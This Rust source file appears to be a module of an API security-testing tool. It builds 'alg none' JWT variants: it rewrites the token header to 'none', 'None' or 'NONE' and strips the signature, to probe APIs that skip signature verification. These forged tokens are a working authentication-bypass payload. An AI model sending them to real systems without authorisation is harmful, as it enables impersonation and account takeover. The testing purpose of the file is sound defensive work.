//! `alg_none`: the header says `alg: none` (also `None`, `NONE`) and the signature is
//! empty. An API that honours it accepts any claims anyone writes. CWE-347 (improper
//! verification of cryptographic signature); OWASP API2:2023 (broken authentication).

use serde_json::Value;

use super::{Input, Mutation, Plan, Variant, jwt};

pub struct AlgNone;

impl Mutation for AlgNone {
    fn name(&self) -> &'static str {
        "alg_none"
    }

    fn plan(&self, input: &Input<'_>) -> Plan {
        let jwt = match jwt(input) {
            Ok(j) => j,
            Err(skip) => return skip,
        };
        Plan::Send(
            ["none", "None", "NONE"]
                .iter()
                .map(|alg| {
                    let mut t = jwt.clone();
                    t.header.insert("alg".into(), Value::String((*alg).into()));
                    t.signature.clear();
                    Variant {
                        label: format!("alg: {alg}"),
                        token: t.encode(),
                    }
                })
                .collect(),
        )
    }
}
